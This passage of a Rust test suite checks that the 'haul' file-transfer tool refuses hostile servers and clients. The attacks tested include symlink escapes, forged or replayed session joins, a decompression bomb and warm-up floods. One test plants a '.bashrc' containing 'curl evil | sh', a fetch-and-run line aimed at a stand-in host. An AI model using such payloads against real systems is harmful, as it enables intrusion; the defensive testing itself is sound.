                "haul serve --stdio --root {root} accepted a tunnel to {target}, not listed anywhere ({} connections reached it)",
                sink.conns.load(Ordering::SeqCst)
            );
        }
    }
    assert_eq!(
        sink.conns.load(Ordering::SeqCst),
        0,
        "the target was reached"
    );
}

/// P-27: the control connection of a session keyed in the ssh greetings
/// joins only with those keys, and only once; a connection that cannot
/// join takes nothing from the client that can.
#[test]
fn keyed_control_joins_once_and_only_with_the_keys() {
    use std::io::{Read, Write};
    let env = Env::new();
    let root = env.root.to_str().unwrap().to_string();
    let (srv, keys) = hostile::stdio::StdioServer::start_keyed(Path::new(HAUL), &["--root", &root])
        .expect("start haul serve --stdio with a keyed start");
    let closed_unanswered = |bytes: &[u8]| {
        let mut s = std::net::TcpStream::connect(srv.addr()).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        s.write_all(bytes).unwrap();
        let mut got = Vec::new();
        let _ = s.read_to_end(&mut got);
        got.is_empty()
    };
    let preamble = |session: [u8; 16], stream: u16| {
        wire::Preamble {
            version: wire::PROTOCOL_VERSION,
            kind: wire::ConnKind::Keyed,
            session,
            stream,
        }
        .encode()
        .to_vec()
    };
    let sid = keys.session_id();
    let mut wrong = sid;
    wrong[0] ^= 1;
    assert!(closed_unanswered(&preamble(wrong, 0)), "another session id");
    assert!(
        closed_unanswered(&preamble(sid, 1)),
        "a stream other than 0"
    );
    // The right id with a join frame sealed under other keys.
    let mut forged = preamble(sid, 0);
    forged.extend_from_slice(&[40, 0, 0, 0]);
    forged.extend_from_slice(&[0x5a; 128]);
    assert!(closed_unanswered(&forged), "a forged join frame");
    // The genuine client still joins, and is welcomed; a second one with
    // the same keys (a replay) is not answered. The first stays open
    // meanwhile.
    let progress = std::sync::Arc::new(connect::progress::Progress::default());
    let keyed_first_msg = || {
        let stream = std::net::TcpStream::connect(srv.addr()).unwrap();
        let mut c =
            connect::join::client_keyed_control(stream, &keys, &progress).expect("keyed control");
        c.reader
            .get_ref()
            .set_read_timeout(Some(Duration::from_secs(20)))
            .unwrap();
        let first = c.reader.read_msg().map_err(|e| format!("{e:?}"));
        (c, first)
    };
    let (control, first) = keyed_first_msg();
    assert!(
        matches!(first, Ok(Some(wire::Msg::Welcome))),
        "the keyed control connection was not welcomed: {first:?}"
    );
    let (_replay, again) = keyed_first_msg();
    assert!(
        !matches!(again, Ok(Some(_))),
        "a second keyed control connection was answered: {again:?}"
    );
    drop(control);
}

// ---------------------------------------------------------------------------
// Cases against a pulling client: a hostile server it pulls from.

struct PullCase {
    name: &'static str,
    env: Env,
    outside: Outside,
    before: Snapshot,
    /// The client's destination directory.
    dest: PathBuf,
}

impl PullCase {
    fn new(name: &'static str) -> PullCase {
        let env = Env::new();
        let dest = env.local.join("dest");
        fs::create_dir_all(&dest).unwrap();
        let outside = Outside::plant(env.dir.path());
        let before = snapshot(&outside.dir);
        PullCase {
            name,
            env,
            outside,
            before,
            dest,
        }
    }

    /// Runs `haul cp --daemon ARGS... 127.0.0.1:PORT:SOURCE DEST/` against
    /// a hostile server that plays `script` once the client is accepted,
    /// then reads the client's verdict. Returns the client's run and what
    /// the server saw.
    fn pull<R: Send + 'static>(
        &self,
        args: &[&str],
        source: &str,
        script: impl FnOnce(&mut Served) -> R + Send + 'static,
    ) -> (Ran, Result<(R, hostile::Ended), String>) {
        let server = Server::bind().unwrap();
        let remote = format!("127.0.0.1:{}:{source}", server.port());
        let serving = std::thread::spawn(move || {
            let mut s = server
                .accept(Duration::from_secs(30))
                .map_err(|e| format!("{e:?}"))?;
            let r = script(&mut s);
            let ended = s.finish(VERDICT);
            s.close();
            Ok((r, ended))
        });
        let mut all = vec!["--daemon"];
        all.extend_from_slice(args);
        all.push(&remote);
        let dest = format!("{}/", self.dest.display());
        all.push(&dest);
        let ran = run_client(self.env.cp_cmd(&all), CASE_LIMIT);
        let seen = serving
            .join()
            .unwrap_or_else(|_| Err("the hostile server panicked".into()));
        assert!(
            ran.peak_kib < CLIENT_BUDGET_KIB,
            "[{}] the client's peak memory reached {} MiB",
            self.name,
            ran.peak_kib >> 10
        );
        (ran, seen)
    }

    fn outside_unchanged(&self) {
        assert_unchanged(
            &self.before,
            &snapshot(&self.outside.dir),
            "what lies outside the destination",
            self.name,
        );
    }

    fn finish(self) {
        self.outside_unchanged();
    }
}

fn path_bytes(p: &Path) -> Vec<u8> {
    p.as_os_str().as_encoded_bytes().to_vec()
}

/// Sends `content` as file `id` on the first data stream, with its
/// `FileEnd` if it has one.
fn send_file(s: &mut Served, id: u32, content: &[u8]) {
    let bs = s.request.block_size;
    let (blocks, fe) = blocks_of(id, bs, content);
    for (h, d) in blocks {
        let _ = s.send_block(0, &h, &d);
    }
    if let Some(m) = fe {
        let _ = s.send(&[m]);
    }
}

/// Issue case 7: a server answers a pull of `x` with `.ssh` and `.bashrc`
/// for a destination that is a home directory, under `--delete`.
#[test]
fn pull_names_the_client_did_not_ask_for() {
    let case = PullCase::new("pull: names not asked for");
    fs::create_dir_all(case.dest.join(".ssh")).unwrap();
    fs::write(
        case.dest.join(".ssh/authorized_keys"),
        b"ssh-ed25519 AAAA me\n",
    )
    .unwrap();
    fs::write(case.dest.join(".bashrc"), b"# mine\n").unwrap();
    fs::write(case.dest.join("keep.txt"), b"keep\n").unwrap();
    let home = snapshot(&case.dest);
    let evil = b"curl evil | sh\n".to_vec();
    let (ran, _) = case.pull(&["-r", "--delete", "--block-size", "64K"], "x", move |s| {
        let n = evil.len() as u64;
        let _ = s.send(&[dir(0, ".ssh", 0o700), file(1, ".bashrc", n), end(1, n)]);
        send_file(s, 1, &evil);
    });
    case.outside_unchanged();
    assert_refused(&ran, CONFLICT, case.name);
    assert_unchanged(&home, &snapshot(&case.dest), "the destination", case.name);
    case.finish();
}

/// A link out of the destination, then a file under it.
#[test]
fn pull_link_then_child_entry() {
    let case = PullCase::new("pull: link then child");
    let vdir = path_bytes(&case.outside.path("vdir"));
    let (ran, _) = case.pull(&["-r", "--block-size", "64K"], "x", move |s| {
        let _ = s.send(&[
            dir(0, "x", 0o755),
            link(1, "x/l", &vdir),
            file(2, "x/l/f", 10),
            end(1, 10),
        ]);
        send_file(s, 2, b"0123456789");
    });
    case.outside_unchanged();
    assert_refused(&ran, CONFLICT, case.name);
    case.finish();
}

/// A hostile server sends `x/NAME` as a link out of the destination,
/// then `x/f` (`size` bytes): the link is never written through, and a
/// transfer that goes on places `x/f` whole, leaving no temporary.
fn pull_link_named_like_a_temporary(name: &'static str, link_name: &str, size: usize, seed: u64) {
    let case = PullCase::new(name);
    let victim = path_bytes(&case.outside.path("victim.txt"));
    let data = random_bytes(size, seed);
    let sent = data.clone();
    let link_path = format!("x/{link_name}");
    let (ran, _) = case.pull(&["-r", "--block-size", "64K"], "x", move |s| {
        let n = sent.len() as u64;
        let _ = s.send(&[
            dir(0, "x", 0o755),
            link(1, &link_path, &victim),
            file(2, "x/f", n),
            end(1, n),
        ]);
        send_file(s, 2, &sent);
    });
    case.outside_unchanged();
    if assert_refused_or_ok(&ran, RESERVED, case.name) {
        assert_eq!(fs::read(case.dest.join("x/f")).unwrap(), data);
        let left = regular_temporaries(&case.dest);
        assert!(
            left.is_empty(),
            "[{}] temporaries left: {left:?}",
            case.name
        );
    }
    case.finish();
}

/// A link out of the destination named like the temporary of the file
/// that follows it.
#[test]
fn pull_temporary_name_link_then_file() {
    pull_link_named_like_a_temporary("pull: .f.haul.part link then f", ".f.haul.part", 50_000, 12);
}

/// Issue case 1 by the journal, pulled: `x/.f.haul.journal` links out of
/// the destination, and `x/f` is several blocks, so it keeps a journal.
#[test]
fn pull_journal_name_link_then_file() {
    pull_link_named_like_a_temporary(
        "pull: .f.haul.journal link then f",
        ".f.haul.journal",
        300_000,
        15,
    );
}

/// Issue case 4, pulled: a link and a directory of one name in one
/// manifest, under `--delete`.
#[test]
fn pull_delete_through_a_link_and_directory_of_one_name() {
    let case = PullCase::new("pull: --delete, link and dir of one name");
    let vdir = path_bytes(&case.outside.path("vdir"));
    let (ran, _) = case.pull(&["-r", "--delete"], "x", move |s| {
        let _ = s.send(&[
            dir(0, "x", 0o755),
            link(1, "x/d", &vdir),
            dir(2, "x/d", 0o755),
            end(0, 0),
        ]);
    });
    case.outside_unchanged();
    assert_refused_or_ok(&ran, CONFLICT, case.name);
    case.finish();
}

/// Issue case 4 as found: a real daemon serving `a/d`, a link to a
/// directory of the client's, and an empty `b/d`, pulled as `a/ b/` with
/// `--delete`.
#[test]
fn pull_delete_two_sources_link_and_directory() {
    let case = PullCase::new("pull: --delete of a/ and b/, a/d a link");
    let mut daemon = Daemon::start(&case.env, &[]);
    fs::create_dir_all(case.env.root.join("a")).unwrap();
    fs::create_dir_all(case.env.root.join("b/d")).unwrap();
    symlink(case.outside.path("vdir"), case.env.root.join("a/d")).unwrap();
    let dest = format!("{}/", case.dest.display());
    let (a, b) = (daemon.remote("/a/"), daemon.remote("/b/"));
    let ran = run_client(
        case.env.cp_cmd(&[
            "--daemon",
            "-r",
            "--delete",
            "--transport",
            "tcp",
            &a,
            &b,
            &dest,
        ]),
        CASE_LIMIT,
    );
    case.outside_unchanged();
    assert_refused_or_ok(&ran, CONFLICT, case.name);
    let name = case.name;
    daemon.assert_healthy(&case.env, DAEMON_BUDGET_KIB, name);
    case.finish();
}

/// Issue case 5, pulled: `-p` through a link in the destination.
#[test]
fn pull_preserve_does_not_follow_a_link_in_the_destination() {
    let case = PullCase::new("pull: -p through a link in the destination");
    fs::create_dir_all(case.dest.join("x")).unwrap();
    symlink(case.outside.path("pdir"), case.dest.join("x/e")).unwrap();
    let (ran, _) = case.pull(&["-r", "-p"], "x", move |s| {
        let _ = s.send(&[dir(0, "x", 0o755), dir(1, "x/e", 0o1777), end(0, 0)]);
    });
    case.outside_unchanged();
    assert_refused_or_ok(&ran, ESCAPE, case.name);
    case.finish();
}

/// Issue case 6, pulled: the client's dedup reads the file a link in its
/// destination points to, and tells the server its chunks.
#[test]
fn pull_dedup_tells_nothing_through_a_link_in_the_destination() {
    let case = PullCase::new("pull: dedup through a link in the destination");
    fs::create_dir_all(case.dest.join("x")).unwrap();
    symlink(case.outside.path("secret.bin"), case.dest.join("x/s")).unwrap();
    let content = random_bytes(SECRET_LEN, 13);
    let (ran, seen) = case.pull(&["-r"], "x", move |s| {
        let n = content.len() as u64;
        let _ = s.send(&[dir(0, "x", 0o755), file(1, "x/s", n), end(1, n)]);
        // What the client answers for x/s before its blocks are sent.
        let (msgs, _) = s.read_for(
            Duration::from_secs(5),
            |m| matches!(m, Msg::Ready(l) if l.contains(&1)),
        );
        send_file(s, 1, &content);
        msgs.into_iter()
            .filter_map(|m| match m {
                Msg::Chunks { file: 1, chunks } => Some(chunks.len()),
                _ => None,
            })
            .sum::<usize>()
    });
    let (told, _) = seen.unwrap_or_else(|e| panic!("[{}] the hostile server: {e}", case.name));
    assert_eq!(
        told, 0,
        "[{}] the client announced {told} chunks of the file outside its destination that x/s links to",
        case.name
    );
    case.outside_unchanged();
    assert_refused_or_ok(&ran, ESCAPE, case.name);
    case.finish();
}

/// Issue case 2, pulled: one entry of 0xFFFF_FFFF blocks of 64 KiB.
#[test]
fn pull_huge_entry() {
    let case = PullCase::new("pull: one entry of 2^32-1 blocks");
    let (ran, _) = case.pull(&["-r", "--block-size", "64K"], "x", |s| {
        let _ = s.send(&[file(0, "x", 0xFFFF_FFFFu64 * 65536)]);
    });
    case.outside_unchanged();
    assert_refused(&ran, TOO_LARGE, case.name);
    case.finish();
}

/// Offsets past the end, pulled.
#[test]
fn pull_block_past_the_end() {
    let case = PullCase::new("pull: block past the end");
    let (ran, _) = case.pull(&["-r", "--block-size", "64K"], "x", |s| {
        let _ = s.send(&[file(0, "x", 10), end(1, 10)]);
        let d = b"0123456789";
        let h = wire::BlockHeader {
            index: 3,
            offset: 3 * 65536,
            ..block(0, 0, 65536, d)
        };
        let _ = s.send_block(0, &h, d);
    });
    case.outside_unchanged();
    assert_refused(&ran, &[5], case.name);
    case.finish();
}

/// A zstd bomb, pulled: asked for again or refused; the server then
/// gives up and the client says so.
#[test]
fn pull_decompression_bomb() {
    let case = PullCase::new("pull: zstd bomb");
    let (ran, seen) = case.pull(&["-r", "--block-size", "64K"], "x", |s| {
        let mut bomb = Vec::new();
        codec::Coder::new().compress(codec::Codec::Zstd(3), &vec![0u8; 64 << 20], &mut bomb);
        let real = random_bytes(65_536, 14);
        let _ = s.send(&[file(0, "x", 65_536), end(1, 65_536)]);
        let h = wire::BlockHeader {
            codec: CODEC_ZSTD,
            wire_len: bomb.len() as u32,
            ..block(0, 0, 65_536, &real)
        };
        let _ = s.send_block(0, &h, &bomb);
        let (msgs, _) = s.read_for(VERDICT, |m| matches!(m, Msg::Nack { .. }));
        msgs
    });
    let (msgs, _) = seen.unwrap_or_else(|e| panic!("[{}] the hostile server: {e}", case.name));
    assert!(
        msgs.iter().any(|m| matches!(
            m,
            Msg::Nack { .. }
                | Msg::Error {
                    code: Protocol | Integrity,
                    ..
                }
        )),
        "[{}] the client neither asked for the bomb again nor refused it: {msgs:?}",
        case.name
    );
    case.outside_unchanged();
    assert_refused(&ran, &[5, 10, 11], case.name);
    case.finish();
}

/// A hostile client's selection (P-44): a rule that does not compile, and
/// rules past their bytes together, are refused as the request is read;
/// the daemon goes on.
#[test]
fn hostile_selection_is_refused_and_the_daemon_goes_on() {
    let case = Case::new("hostile: selection", &[]);
    let mut bad = push("dst");
    bad.select.rules = vec!["- [".into()];
    let refused = case.hostile(false).request(bad);
    assert!(
        refused.is_err(),
        "a rule that does not compile was accepted"
    );
    let mut big = push("dst");
    big.select.rules = vec![format!("- {}", "x".repeat(4000)); 70];
    let refused = case.hostile(false).request(big);
    assert!(
        refused.is_err(),
        "rules past MAX_FILTER_BYTES were accepted"
    );
    case.daemon.assert_alive(case.name);
    case.finish();
}

/// P-49: a client that abuses warm-ups (too much padding, a warm-up of
/// another version, one ahead of a control preamble, one that asks twice)
/// gets at most one window back and is closed; the daemon still serves a
/// genuine push afterwards.
#[test]
fn warmups_from_a_hostile_client_are_bounded() {
    use std::io::{Read, Write};
    let env = Env::new();
    let server = env.serve();
    let warmup = |padding: u16| {
        let mut b = wire::Preamble::warmup(padding).encode().to_vec();
        b.resize(b.len() + padding as usize, 0);
        b
    };
    // What the daemon sends before it closes, bytes.
    let answered = |bytes: Vec<u8>| {
        let mut s = std::net::TcpStream::connect(("127.0.0.1", server.port)).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        let writer = {
            let mut s = s.try_clone().unwrap();
            std::thread::spawn(move || {
                let _ = s.write_all(&bytes);
                let _ = s.shutdown(std::net::Shutdown::Write);
            })
        };
        let mut got = Vec::new();
        let read = s.read_to_end(&mut got);
        let _ = writer.join();
        // Closed with the client's bytes unread is a reset: closed too.
        let closed = match &read {
            Ok(_) => true,
            Err(e) => e.kind() == std::io::ErrorKind::ConnectionReset,
        };
        assert!(closed, "closed, not timed out: {read:?}");
        got.len()
    };
    let flood: Vec<u8> = (0..8).flat_map(|_| warmup(u16::MAX)).collect();
    assert_eq!(answered(flood), 0, "more padding than MAX_WARMUP");
    let mut old = wire::Preamble::warmup(0);
    old.version -= 1;
    assert_eq!(answered(old.encode().to_vec()), 0, "another version");
    let mut control = warmup(100);
    control.extend_from_slice(
        &wire::Preamble {
            version: wire::PROTOCOL_VERSION,
            kind: wire::ConnKind::Control,
            session: [0; 16],
            stream: 0,
        }
        .encode(),
    );
    assert_eq!(
        answered(control),
        0,
        "a warm-up ahead of a control preamble"
    );
    let ask = wire::Preamble::warmup_asking().encode().to_vec();
    let twice = answered([ask.clone(), ask].concat());
    assert!(
        twice > 0 && twice <= wire::MAX_WARMUP + 2 * wire::PREAMBLE_LEN,
        "one window for two asks: {twice} bytes"
    );
    let src = env.local.join("after.bin");
    write_file(&src, &random_bytes(1 << 20, 52));
    ok(&env.cp(&[src.to_str().unwrap(), &env.remote(&server, "after.bin")]));
    assert!(fs::read(env.root.join("after.bin")).unwrap() == fs::read(&src).unwrap());
}
